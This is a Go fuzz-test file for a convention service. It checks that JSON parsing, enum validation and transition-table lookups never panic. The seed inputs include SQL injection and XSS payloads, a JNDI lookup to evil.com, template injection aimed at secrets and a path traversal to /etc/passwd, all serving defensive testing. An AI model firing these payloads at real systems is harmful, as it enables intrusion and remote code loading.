// Package security provides fuzz tests for the convention service's input
// handling. The primary invariant is that no input should cause a panic in
// JSON parsing, domain validation, or transition table lookups.
package security

import (
	"encoding/json"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/helixir/convention-service/internal/convention"
	"github.com/helixir/convention-service/internal/domain"
)

// submitConventionRequest mirrors the HTTP handler's request struct for fuzz
// testing without importing the internal httpserver package.
type submitConventionRequest struct {
	AgencyID             string    `json:"agency_id"`
	BeneficiaryFirstName string    `json:"beneficiary_first_name"`
	BeneficiaryLastName  string    `json:"beneficiary_last_name"`
	BeneficiaryEmail     string    `json:"beneficiary_email"`
	Siret                string    `json:"siret"`
	BusinessName         string    `json:"business_name"`
	EstablishmentEmail   string    `json:"establishment_email"`
	ImmersionActivity    string    `json:"immersion_activity"`
	ImmersionObjective   string    `json:"immersion_objective"`
	DateStart            time.Time `json:"date_start"`
	DateEnd              time.Time `json:"date_end"`
}

// FuzzSubmitConventionFields tests that arbitrary input to the free-text
// fields never causes a panic during JSON encoding/decoding. This exercises
// the same code path a real HTTP request traverses before validation.
func FuzzSubmitConventionFields(f *testing.F) {
	seeds := []string{
		// SQL injection payloads
		"'; DROP TABLE conventions; --",
		"1 OR 1=1",
		"' UNION SELECT * FROM outbox_events --",
		"Robert'); DROP TABLE students;--",

		// XSS payloads
		"<script>alert('xss')</script>",
		`<img src=x onerror=alert('xss')>`,

		// Null bytes and control characters
		"name\x00with\x00nulls",
		"name\nwith\nnewlines",
		"name\twith\ttabs",

		// Unicode edge cases
		"",
		"​",      // zero-width space
		"\uFEFF", // BOM
		"�",      // replacement character
		"\U0001F4A9",
		"Boulangerie de l'Étoile",
		"‮right-to-left‬",
		string([]byte{0xfe, 0xff}), // invalid UTF-8

		// Long strings
		strings.Repeat("a", 10000),
		strings.Repeat("é", 5000),

		// Template and log injection
		"${jndi:ldap://evil.com/a}",
		"{{.Env.SECRET}}",
		"${7*7}",

		// Path traversal
		"../../etc/passwd",

		// JSON special characters
		`{"nested": "json"}`,
		`"already quoted"`,
		"\\n\\t\\r\\0",

		// Empty and whitespace
		" ",
		"\t\n\r",
	}

	for _, seed := range seeds {
		f.Add(seed)
	}

	f.Fuzz(func(t *testing.T, input string) {
		// Invariant 1: JSON round-trip must never panic.
		req := submitConventionRequest{
			BeneficiaryFirstName: input,
			BeneficiaryLastName:  input,
			BusinessName:         input,
			ImmersionActivity:    input,
			ImmersionObjective:   input,
			Siret:                input,
			BeneficiaryEmail:     input,
			EstablishmentEmail:   input,
			AgencyID:             input,
		}
		encoded, err := json.Marshal(req)
		if err != nil {
			// Marshal can fail for some inputs; that is fine as long as it
			// does not panic.
			return
		}

		var decoded submitConventionRequest
		if err := json.Unmarshal(encoded, &decoded); err != nil {
			// Unmarshal failure is acceptable; a panic is not.
			return
		}

		// Invariant 2: For valid UTF-8 input, the decoded fields must be
		// identical to the original after a successful round-trip. Invalid
		// UTF-8 is replaced with U+FFFD by json.Marshal, which is expected
		// and safe behavior.
		if utf8.ValidString(input) && decoded.BusinessName != input {
			t.Errorf("JSON round-trip changed valid UTF-8 input:\n  original: %q\n  decoded:  %q", input, decoded.BusinessName)
		}

		// Invariant 3: Enum parsing of arbitrary strings must never panic.
		_ = domain.ConventionStatus(input).IsValid()
		_ = domain.ConventionStatus(input).IsTerminal()
		_ = domain.Role(input).IsValid()
	})
}

// FuzzJSONPayload tests that arbitrary bytes sent as a JSON request body
// never cause a panic in the JSON unmarshaling path.
func FuzzJSONPayload(f *testing.F) {
	f.Add([]byte(`{"agency_id":"00000000-0000-0000-0000-000000000000","siret":"12345678901234"}`))
	f.Add([]byte(`{}`))
	f.Add([]byte(`{"siret":""}`))
	f.Add([]byte(`{"siret":null}`))
	f.Add([]byte(`{"siret":123}`))
	f.Add([]byte(`{"siret":true}`))
	f.Add([]byte(`{"siret":[]}`))
	f.Add([]byte(`{"date_start":"not a date"}`))
	f.Add([]byte(`{"date_start":"2025-04-01T09:00:00Z","date_end":"2025-04-15T17:00:00Z"}`))
	f.Add([]byte(`not json at all`))
	f.Add([]byte(`{"siret":"a","extra":"b"}`))
	f.Add([]byte{0x00})
	f.Add([]byte{0xff, 0xfe})
	f.Add([]byte(`{"business_name": "` + strings.Repeat("a", 100000) + `"}`))
	f.Add([]byte(`{` + strings.Repeat(`"k":`, 100) + `"v"}`))

	f.Fuzz(func(t *testing.T, data []byte) {
		// Invariant: Unmarshal must never panic regardless of input.
		var req submitConventionRequest
		_ = json.Unmarshal(data, &req)

		if req.Siret != "" {
			trimmed := strings.TrimSpace(req.Siret)
			_ = len(trimmed) == 14
			_ = utf8.ValidString(trimmed)
		}
	})
}

// FuzzTransitionTableLookups tests that probing the transition table with
// arbitrary status and role strings never panics and never grants a
// transition for an unknown target status.
func FuzzTransitionTableLookups(f *testing.F) {
	f.Add("draft", "beneficiary")
	f.Add("validated", "admin")
	f.Add("rejected", "validator")
	f.Add("", "")
	f.Add("DRAFT", "Admin")
	f.Add("draft'; --", "superuser")
	f.Add(strings.Repeat("x", 10000), "\x00")
	f.Add("�", "\U0001F4A9")

	table := convention.DefaultTransitionTable()

	f.Fuzz(func(t *testing.T, rawStatus, rawRole string) {
		status := domain.ConventionStatus(rawStatus)
		role := domain.Role(rawRole)

		rule, ok := table[status]
		if ok && !status.IsValid() {
			t.Errorf("transition table contains unknown target status %q", rawStatus)
		}

		// Lookups against a rule must never panic, whatever the inputs.
		_ = rule.AllowsRole(role)
		_ = rule.AllowsFrom(status)

		// An unknown role can never be allowed by any rule.
		if !role.IsValid() && rule.AllowsRole(role) {
			t.Errorf("unknown role %q allowed by transition table", rawRole)
		}
	})
}
